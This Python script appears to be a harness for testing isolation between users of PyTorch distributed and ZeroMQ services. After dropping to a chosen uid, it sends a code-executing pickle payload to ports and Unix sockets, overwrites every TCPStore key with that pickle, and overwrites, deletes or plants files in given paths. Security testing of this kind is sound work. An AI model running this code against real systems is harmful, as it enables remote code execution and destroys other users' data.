"""The attack: runs as root with the id of a user, becomes that user, and attacks resources of other users.

    python stranger.py USER MARKER

MARKER is the file that is created if a pickle of the attacker is loaded. Each line of standard input is an order in
JSON: `ports`, a list of [host, port]; `sockets`, names of Unix sockets; `paths`, files and folders. The program prints
a line for each order: the result for each port, and the data read from each socket and path.
"""

from __future__ import annotations

import base64
import concurrent.futures
import contextlib
import json
import os
import pickle
import select
import socket
import struct
import sys
from datetime import timedelta
from pathlib import Path
from typing import Any

import torch  # noqa: F401 - before the user is another one, who may not read it
import zmq
from torch._C._distributed_c10d import TCPStore

_WAIT_S = 0.2
_LONGEST_NAME = 100  # bytes of a Unix socket address, slightly less than the limit of Linux
"a".encode("idna")  # imports a module that another user may not be able to read

# The first bytes of a TCPStore and of ZeroMQ. Sources:
# torch/csrc/distributed/c10d/TCPStoreBackend.cpp (VALIDATE, PING),
# https://rfc.zeromq.org/spec/23/
_STORE_PING = struct.pack("<BIBI", 0, 0x3C85F7CE, 13, 4711)
_ZMQ_GREETING = b"\xff" + bytes(8) + b"\x7f" + b"\x03\x00"  # up to the version; then the peer sends its mechanism
# First bytes of clients: of a store, a kept session, a rank, and gloo.
_HELLOS = (
    struct.pack("<II", 8, 4) + b"keys",
    struct.pack("<I", 64) + bytes(64),
    b'{"want": "stop", "secret": "guessed"}\n',
    b'{"wire": 1, "who": "somebody", "takes": true}\n',
    *(struct.pack("<Q", number) for number in range(4)),
    b"GET / HTTP/1.1\r\n\r\n",
    b"\xff" * 512,
    b"\x01",
)


class Planted:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return os.system, (f"touch {self.marker}",)


class Attack:
    """The attempts of one user.

    Args:
        marker: See the module.
    """

    def __init__(self, marker: str) -> None:
        self.planted = pickle.dumps(Planted(marker))

    def run(self, ports: list[list[Any]], sockets: list[str], paths: list[str]) -> dict[str, Any]:
        with concurrent.futures.ThreadPoolExecutor(32) as pool:
            of_ports = pool.map(lambda at: self.attack_port(*at), ports)
            of_sockets = pool.map(self.attack_socket, sockets)
            of_paths = pool.map(self.attack_path, paths)
            return {
                "ports": {f"{host}:{port}": said for (host, port), said in zip(ports, of_ports, strict=True)},
                "sockets": dict(zip(sockets, of_sockets, strict=True)),
                "paths": dict(zip(paths, of_paths, strict=True)),
            }

    # ---- ports

    def attack_port(self, host: str, port: int) -> dict[str, Any]:
        protocol = _protocol(host, port)
        read = [_exchange(socket.AF_INET, (host, port), sent) for sent in (b"", *_HELLOS, self.planted)]
        said: dict[str, Any] = {"protocol": protocol, "read": sorted({one for one in read if one})}
        if protocol == "TCPStore":
            said["keys"] = self._attack_store(host, port)
        if protocol.startswith("ZeroMQ"):
            said["read"] = [*self._attack_zmq(host, port)]
        return said

    def _attack_store(self, host: str, port: int) -> list[str]:
        """Replace the values of all keys."""
        keys: list[str] = []
        with contextlib.suppress(RuntimeError):  # it has ended
            store = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=3))
            keys = store.list_keys()
            for key in keys:  # torch reads the state of a rendezvous as base64
                value = base64.b64encode(self.planted).decode() if "torch.rendezvous." in key else self.planted
                store.set(key, value)  # type: ignore[arg-type]  # torch's stub: text only
        return keys

    def _attack_zmq(self, host: str, port: int) -> list[str]:
        """Connect without keys, and with new keys that the session does not know."""
        context, answers = zmq.Context(), []
        for kind in (zmq.DEALER, zmq.SUB, zmq.REQ):
            for has_keys in (False, True):
                with context.socket(kind) as client:
                    client.linger = 0
                    if has_keys:
                        client.curve_publickey, client.curve_secretkey = zmq.curve_keypair()
                        client.curve_serverkey, _ = zmq.curve_keypair()
                    client.connect(f"tcp://{host}:{port}")
                    if kind == zmq.SUB:
                        client.subscribe(b"")
                    with contextlib.suppress(zmq.ZMQError):
                        client.sndtimeo = int(1000 * _WAIT_S)
                        client.send_multipart([b"", self.planted, *_HELLOS])
                    if client.poll(int(1000 * _WAIT_S)):
                        answers.append(client.recv()[:64].hex())
        context.destroy(linger=0)
        return answers

    # ---- Unix sockets and files

    def attack_socket(self, name: str) -> str:
        address = "\0" + name[1:] if name.startswith("@") else name
        folder = None
        if len(os.fsencode(address)) > _LONGEST_NAME:
            try:
                folder = os.open(os.path.dirname(name), os.O_RDONLY | os.O_DIRECTORY)
            except OSError:
                return "refused"
            address = f"/proc/self/fd/{folder}/{os.path.basename(name)}"
        read = {_exchange(socket.AF_UNIX, address, sent) for sent in (b"", *_HELLOS, self.planted)}
        if folder is not None:
            os.close(folder)
        return " ".join(sorted(read - {""}))

    def attack_path(self, path: str) -> str:
        """Read the path, replace it, and create a file next to it."""
        done = []
        with contextlib.suppress(OSError):
            Path(path).stat()
            done.append("seen")
        with contextlib.suppress(OSError):
            os.listdir(path) if os.path.isdir(path) else Path(path).read_bytes()
            done.append("read")
        for replace in (self._overwrite, self._unlink, self._add):
            with contextlib.suppress(OSError):
                replace(path)
                done.append("replaced")
        return " ".join(done)

    def _overwrite(self, path: str) -> None:
        if os.path.isdir(path):
            raise IsADirectoryError
        with open(path, "r+b") as file:
            file.write(self.planted)

    def _unlink(self, path: str) -> None:
        os.unlink(path)

    def _add(self, path: str) -> None:
        Path(path, "planted").write_bytes(self.planted)


def _exchange(family: int, address: Any, sent: bytes) -> str:
    """Send bytes on a connection. Return the received bytes as hexadecimal digits, "refused", "closed" or ""."""
    try:
        with socket.socket(family, socket.SOCK_STREAM) as one:
            one.settimeout(_WAIT_S)
            one.connect(address)
            try:
                one.sendall(sent)
                return one.recv(4096)[:64].hex() or "closed"
            except TimeoutError:
                return ""
            except OSError:
                return "closed"
    except OSError:
        return "refused"


def _protocol(host: str, port: int) -> str:
    """Return the protocol of a listener, from its first bytes."""
    with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=_WAIT_S) as one:
        first = _receive(one)
        if first[:1] == b"\xff" and first[9:10] == b"\x7f":
            one.sendall(_ZMQ_GREETING)
            rest = first
            while len(rest) < 32 and (more := _receive(one)):
                rest += more
            return f"ZeroMQ {rest[12:32].strip(bytes(1)).decode()}"
        if len(first) == 36 and struct.unpack("<I", first[:4])[0] == 32:
            return "store with a key"
        if first.startswith(b"SSH-"):
            return "ssh"
    with contextlib.suppress(OSError), socket.create_connection((host, port), timeout=_WAIT_S) as one:
        one.sendall(_STORE_PING)
        if _receive(one) == struct.pack("<I", 4711):
            return "TCPStore"
    return "silent"


def _receive(one: socket.socket) -> bytes:
    if not select.select([one], [], [], _WAIT_S)[0]:
        return b""
    with contextlib.suppress(OSError):
        return one.recv(4096)
    return b""


def main(user: int, marker: str) -> None:
    os.setgroups([])
    os.setgid(user)
    os.setuid(user)
    attack = Attack(marker)
    for order in sys.stdin:
        print(json.dumps(attack.run(**json.loads(order))), flush=True)


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2])
